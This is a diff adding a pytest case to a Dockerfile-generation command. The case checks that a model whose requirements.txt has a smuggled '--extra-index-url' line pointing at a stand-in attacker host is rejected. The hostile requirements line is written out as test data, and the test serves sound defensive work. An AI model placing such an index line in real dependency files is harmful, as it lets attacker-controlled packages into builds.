@@ -108,6 +108,18 @@ def test_generate_dockerfile_takes_only_a_version_from_python_env(tmp_path, logg
     assert "evil" not in dockerfile and "curl" not in dockerfile
 
 
+def test_generate_dockerfile_refuses_a_model_whose_requirements_choose_an_index(tmp_path, logged):
+    info, _, _ = logged
+    model_dir = tmp_path / "model"
+    tracekit.sklearn.save_model(tracekit.sklearn.load_model(info.model_uri), str(model_dir))
+    with open(model_dir / "requirements.txt", "a") as requirements:
+        requirements.write("--extra-index-url http://evil.example/simple\n")
+    result = CliRunner().invoke(main, ["models", "generate-dockerfile", "-m", str(model_dir),
+                                       "-d", str(tmp_path / "build")])
+    assert result.exit_code == 1 and "is a pip option" in result.output
+    assert not (tmp_path / "build" / "Dockerfile").exists()
+
+
 def test_generate_dockerfile_refuses_a_directory_already_holding_a_model(tmp_path, logged):
     info, _, _ = logged
     (tmp_path / "build" / "model_dir").mkdir(parents=True)
